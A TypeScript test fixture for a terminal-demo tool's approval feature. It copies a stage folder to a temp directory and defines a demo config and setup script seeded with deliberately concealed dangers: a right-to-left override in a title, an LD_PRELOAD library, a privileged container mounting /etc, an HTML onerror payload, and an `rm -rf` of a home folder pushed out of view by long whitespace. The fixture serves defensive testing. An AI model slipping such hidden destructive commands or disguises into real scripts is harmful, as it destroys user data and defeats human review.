import { cpSync, mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { STAGE } from './show.ts'

/** A copy of the stage outside of the package: nobody has approved anything in it. */
export interface Foreign {
  readonly folder: string
  write(path: string, text: string, mode?: number): void
  remove(): void
}

export function makeForeign(): Foreign {
  const folder = realpathSync(mkdtempSync(join(tmpdir(), 'cuecast-foreign-')))
  cpSync(STAGE, folder, { recursive: true })
  return {
    folder,
    write(path, text, mode = 0o644) {
      mkdirSync(dirname(join(folder, path)), { recursive: true })
      writeFileSync(join(folder, path), text, { mode })
    },
    remove: () => rmSync(folder, { recursive: true, force: true, maxRetries: 5 }),
  }
}

/** A demo with everything that an approval covers, some of it meant to be overlooked. */
export const EVERYTHING = `title: "Everything\\u202e at once"
size: 60x12
setup: ./setup.sh
teardown: ./teardown.sh
requires: [docker, { run: docker info, why: Docker answers }]
env: { LAB: lab, LD_PRELOAD: ./x.so }
redact: [$LAB_TOKEN]
panes:
  here: { cwd: /srv }
  there: { ssh: ada@far.example }
steps:
  - id: first
    run:
      here: docker run --rm --privileged -p 8080:80 -v /etc:/host:ro busybox ls /host
      there: uname -a
    rejoin: docker rm -f first
  - id: second
    in: here
    cues:
      - type: curl -s https://files.example:8443/x <img src=x onerror=__pwn()>
      - key: enter
      - wait: prompt
`
export const SETUP = `#!/bin/sh
mkdir -p work
${'\n'.repeat(300)}rm -rf "$HOME/precious"${' '.repeat(300)}; ./helper
`
